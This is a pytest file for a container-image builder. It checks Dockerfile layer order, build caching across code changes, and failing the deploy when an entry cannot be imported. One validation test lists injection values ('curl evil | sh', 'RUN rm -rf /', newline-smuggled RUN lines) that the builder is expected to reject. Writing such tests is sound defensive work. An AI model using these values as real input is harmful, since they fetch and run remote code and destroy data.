"""Image customization (issue 13, item 7): ``Image(base, apt, pip, run)`` rendered through the Dockerfile
template as cached layers keyed on their content, and the entry imported once in the image.

apt needs the network, which builds here do not have: it is checked by rendering. pip and run are built
for real with podman from wheels made on the host (the fixtures of test_image_build.py), and the build
cache is shown to keep the image's layers when only the code changes.
"""

from __future__ import annotations

import asyncio
import shutil
import subprocess
from pathlib import Path

import pytest

from opbox import Image
from opbox.builder.base import BuildSpec
from opbox.builder.container import ContainerBuilder
from opbox.builder.image import build_job_image, render_dockerfile
from opbox.errors import BuildError, ValidationError
from opbox.packaging import pack_folder
from podman_env import podman  # noqa: F401 (fixture)
from test_image_build import H1, H2, make_wheel, run_in, session, spec, stage_lines, step_cached  # noqa: F401

CUDA = "nvidia/cuda:12.4.1-runtime-ubuntu22.04"


def test_render_image_layers_in_order():
    text = render_dockerfile(spec(base_image=CUDA, apt=("ffmpeg", "libgl1=1.4.0-1"), image_pip_hash=H1,
                                  run=("echo ready > /opt/marker", "python -c 'import sys'"), entry="myproj.jobs.train:train"))
    lines = stage_lines(text)
    order = [
        f"FROM {CUDA} AS system",
        "RUN apt-get update",
        " && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends ffmpeg libgl1=1.4.0-1",
        "FROM system AS deps",
        "RUN python3 -m venv /opt/venv",
        "COPY image-requirements.txt /opbox/image-requirements.txt",
        "COPY wheels/image/ /wheels/image/",
        "RUN /opt/venv/bin/pip install --no-index --find-links /wheels/image -r /opbox/image-requirements.txt",
        "COPY requirements.txt",
        "RUN /opt/venv/bin/pip install --no-index --find-links /wheels/requirements -r",
        "RUN /opt/venv/bin/pip install --no-index --find-links /wheels/runtime \"opbox[",  # the serve extra
        "FROM system",
        "COPY --from=deps /opt/venv /opt/venv",
        "RUN echo ready > /opt/marker",
        "RUN python -c 'import sys'",
        "COPY code/ /app/",
        'RUN ["/opt/venv/bin/python", "-B", "-m", "opbox.runtime", "check", "--entry", "myproj.jobs.train:train", '
        '"--code-dir", "/app"]',
        "LABEL ",
    ]
    exact = {"FROM system"}
    positions = [next(i for i, line in enumerate(lines) if (line == prefix if prefix in exact else line.startswith(prefix)))
                 for prefix in order]
    assert positions == sorted(positions), text
    assert text.count("apt-get install") == 1  # once, in the stage both others start from
    assert f'"opbox.base-image"="{CUDA}"' in text


def test_render_without_image_is_unchanged_and_code_changes_only_touch_the_tail():
    plain = render_dockerfile(spec())
    assert "AS system" not in plain and "image-requirements" not in plain and "opbox.runtime\", \"check" not in plain
    custom = dict(apt=("ffmpeg",), image_pip_hash=H1, run=("echo a",), entry="usermod:answer")
    a, b = stage_lines(render_dockerfile(spec(**custom))), stage_lines(render_dockerfile(spec(code_hash="c" * 64, **custom)))
    cut = next(i for i, line in enumerate(a) if line.startswith("COPY code/"))
    assert a[:cut + 1] == b[:cut + 1]  # the apt, pip and run layers' instructions are the same: cache hits
    # the pip layer names its requirements' hash (so the tag changes with them); podman keys the layer's COPY
    # on the copied file's content
    assert f"# image pip: requirements {H2}" in render_dockerfile(spec(**{**custom, "image_pip_hash": H2}))


@pytest.mark.parametrize("bad", [
    dict(apt=("ffmpeg && curl evil | sh",)),
    dict(run=("echo a\nRUN rm -rf /",)),
    dict(run=("echo \\",)),
    dict(entry="x:y\nRUN z"),
    dict(image_pip_hash="not-hex"),
])
def test_spec_refuses_what_would_leave_its_line(bad):
    with pytest.raises(ValidationError):
        spec(**bad)


# --- real builds ---------------------------------------------------------------------------------


def image_layers(podman: str, tag: str) -> list[str]:
    out = subprocess.run([podman, "image", "inspect", "--format", "{{range .RootFS.Layers}}{{.}} {{end}}", tag],
                         capture_output=True, text=True, check=True).stdout
    return out.split()


def test_pip_and_run_layers_are_built_and_cached_across_code_changes(podman, session, tmp_path):
    extra = f"{session.pkg}_extra"
    make_wheel(session.local, extra, "2.0", {f"{extra}/__init__.py": "EXTRA = 'from-image-pip'\n"})
    code = tmp_path / "code"
    shutil.copytree(session.code, code)
    (code / "usermod.py").write_text(f"import {session.pkg}\n\n\ndef answer():\n    return {session.pkg}.VALUE\n")
    image = Image(pip=[f"{extra}==2.0"], run=[f"echo {session.run} > /opt/run-marker"])

    def build(log: list[str]):
        built = build_job_image(code, session.requirements, job_name=session.job + "-img", wheelhouse=session.wheelhouse,
                                builder=session.builder, work_dir=session.root, log=log.append, image=image,
                                entry="usermod:answer")
        session.remember(log)
        session.tags.append(built.tag)
        return built

    first_log: list[str] = []
    first = build(first_log)
    assert first.built
    assert any("opbox: entry usermod:answer imports" in line for line in first_log), first_log[-20:]
    out = run_in(podman, first.tag, f"import {extra}, usermod; print({extra}.EXTRA, usermod.answer(), "
                                    "open('/opt/run-marker').read().strip())")
    assert out == f"from-image-pip 42 {session.run}"

    (code / "usermod.py").write_text((code / "usermod.py").read_text().replace("return ", "return 1 + "))
    second_log: list[str] = []
    second = build(second_log)
    assert second.built and second.tag != first.tag
    for step in ("RUN /opt/venv/bin/pip install --no-index --find-links /wheels/image",
                 "RUN /opt/venv/bin/pip install --no-index --find-links /wheels/requirements",
                 "COPY --from=deps /opt/venv /opt/venv", f"RUN echo {session.run} > /opt/run-marker"):
        assert step_cached(second_log, step), step
    assert not step_cached(second_log, "COPY code/ /app/")
    # the images share every layer up to the code: the same layer ids, not copies
    a, b = image_layers(podman, first.tag), image_layers(podman, second.tag)
    shared = next(i for i, (x, y) in enumerate(zip(a, b)) if x != y)
    assert shared >= len(a) - 2 and len(a) == len(b), (a, b)  # what differs: the code and the import check
    assert run_in(podman, second.tag, "import usermod; print(usermod.answer())") == "43"


def test_the_container_builder_imports_the_entry_and_fails_the_deploy_on_an_import_error(podman, session, tmp_path):
    """Through ContainerBuilder, as a deploy on the container backend builds: a package project whose
    dependencies are in pyproject.toml builds and imports; one whose entry cannot be imported fails."""
    builder = ContainerBuilder(tmp_path / "home", image_builder=session.builder)
    builder._wheelhouses["3.11"] = session.wheelhouse  # the session's offline wheelhouse (the job's wheel is local)
    project = tmp_path / "proj"
    (project / "myproj" / "jobs").mkdir(parents=True)
    (project / "pyproject.toml").write_text(f'[project]\nname = "myproj"\nversion = "0.1"\n'
                                            f'dependencies = ["{session.pkg}==1.0"]\n')
    (project / "myproj" / "__init__.py").write_text("")
    (project / "myproj" / "utils.py").write_text(f"import {session.pkg}\n\n\ndef value():\n    return {session.pkg}.VALUE\n")
    (project / "myproj" / "jobs" / "__init__.py").write_text("")
    (project / "myproj" / "jobs" / "train.py").write_text("from myproj.utils import value\n\n\ndef train():\n"
                                                          "    return value() + 1\n")

    def build(entry: str, version: int, log: list[str]):
        packed = pack_folder(project)
        spec_ = BuildSpec(workspace="imgtest", job_name=session.job + "-proj", version=version,
                          code_sha256=packed.sha256, python="3.11", entry=entry)
        try:
            return asyncio.run(builder.build(spec_, packed.data, log.append))
        finally:
            session.remember(log)

    good_log: list[str] = []
    artifact = build("myproj.jobs.train:train", 1, good_log)
    session.tags.append(artifact.image)
    assert "requirements: pyproject.toml [project] dependencies" in good_log
    assert run_in(podman, artifact.image, "from myproj.jobs.train import train; print(train())") == "43"

    (project / "myproj" / "jobs" / "train.py").write_text("from myproj.helpers import value  # no such module\n")
    bad_log: list[str] = []
    with pytest.raises(BuildError) as failed:
        build("myproj.jobs.train:train", 2, bad_log)
    assert "the entry myproj.jobs.train:train cannot be imported in the image" in str(failed.value)
    assert "No module named 'myproj.helpers'" in failed.value.log
    assert 'File "/app/myproj/jobs/train.py"' in failed.value.log or 'File "myproj/jobs/train.py"' in failed.value.log
